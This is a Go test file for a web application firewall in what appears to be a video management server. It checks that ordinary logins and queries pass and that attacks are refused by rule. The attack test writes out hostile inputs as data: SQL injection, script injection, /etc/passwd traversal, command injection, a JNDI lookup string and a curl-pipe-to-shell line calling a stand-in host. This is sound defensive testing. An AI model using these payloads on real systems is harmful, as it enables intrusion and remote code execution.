package coraza

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/bartizan-vms/bartizan/base/fault"
	"github.com/bartizan-vms/bartizan/security"
)

func login(user string) security.Probe {
	return security.Probe{Remote: "192.0.2.66", Method: "POST", Target: "/api/v1/session", Proto: "HTTP/2.0", Host: "127.0.0.1:8443",
		Header: map[string][]string{
			"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"},
			"Accept":     {"application/json"}, "Content-Type": {"application/json"}, "Content-Length": {"60"},
			"Sec-Fetch-Site": {"same-origin"}, "Accept-Encoding": {"gzip, deflate, br"}, "Accept-Language": {"de,en;q=0.7"}, "Origin": {"https://127.0.0.1:8443"},
		},
		Fields: map[string]string{"user": user}}
}

// What people type and programs send passes.
func TestHonestRequestsPass(t *testing.T) {
	w := &WAF{}
	for _, u := range []string{"anna", "O'Brien", "Müller-Lüdenscheidt", "admin", "root", "select", "Drop Table GmbH", "a.b@example.org", "名前", "x--y", "D'Arcy & Sons", "union jack", "guard (night)", "1=1", "José", "team/oslo"} {
		if err := w.Inspect(t.Context(), login(u)); err != nil {
			t.Errorf("user %q: %v", u, err)
		}
	}
	for _, ua := range []string{"curl/8.5.0", "Go-http-client/2.0", "bartizan/1", "VLC/3.0.18 LibVLC/3.0.18", "Lavf/60.16.100", ""} {
		p := login("anna")
		p.Header["User-Agent"] = []string{ua}
		if ua == "" {
			delete(p.Header, "User-Agent")
		}
		if err := w.Inspect(t.Context(), p); err != nil {
			t.Errorf("agent %q: %v", ua, err)
		}
	}
	for _, target := range []string{
		"/api/v1/setup", "/healthz",
		"/api/v1/cameras/aaaaaaaaaaaa/video.mp4?from=2026-07-01T10:00:00.123456789Z&to=2026-07-01T10:05:00Z&quality=main&audio=as-recorded",
		"/api/v1/cameras/aaaaaaaaaaaa/video.mp4?from=2026-07-01T12:00:00%2B02:00&to=2026-07-01T12:05:00%2B02:00",
		"/api/v1/audit?limit=100&user=O%27Brien&action=session.begin",
	} {
		p := login("")
		p.Method, p.Target, p.Fields = "GET", target, nil
		delete(p.Header, "Content-Type")
		delete(p.Header, "Content-Length")
		p.Header["Range"] = []string{"bytes=0-1048575"}
		if err := w.Inspect(t.Context(), p); err != nil {
			t.Errorf("%s: %v", target, err)
		}
	}
}

func TestI02_AttacksAreRefusedByRule(t *testing.T) {
	w := &WAF{}
	bad := map[string]security.Probe{}
	for _, u := range []string{"' OR 1=1 --", "1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://x/a}", "$(curl http://evil/x|sh)"} {
		bad["user "+u] = login(u)
	}
	for _, q := range []string{"from=1'%20OR%20'1'='1'--%20", "quality=%3Cscript%3Ealert(1)%3C/script%3E", "quality=../../../../etc/passwd%00"} {
		p := login("")
		p.Method, p.Target, p.Fields = "GET", "/api/v1/cameras/x/video.mp4?"+q, nil
		bad[q] = p
	}
	p := login("anna")
	p.Header["User-Agent"] = []string{"sqlmap/1.7#stable (https://sqlmap.org)"}
	bad["sqlmap"] = p
	for name, p := range bad {
		err := w.Inspect(t.Context(), p)
		if !fault.Is(err, fault.Forbidden) || !strings.Contains(err.Error(), "core rule set 9") {
			t.Errorf("%s: %v", name, err)
		} else if strings.Contains(err.Error(), "passwd") || strings.Contains(err.Error(), "script>") {
			t.Errorf("%s: the refusal repeats it: %v", name, err)
		}
	}
}

func TestCostIsSmall(t *testing.T) {
	w := &WAF{}
	begin := time.Now()
	if err := w.Load(); err != nil {
		t.Fatal(err)
	}
	t.Logf("rules read in %v", time.Since(begin).Round(time.Millisecond))
}

func BenchmarkLogin(b *testing.B) {
	w := &WAF{}
	if err := w.Load(); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		i++
		if err := w.Inspect(b.Context(), login(fmt.Sprint("anna", i))); err != nil {
			b.Fatal(err)
		}
	}
}
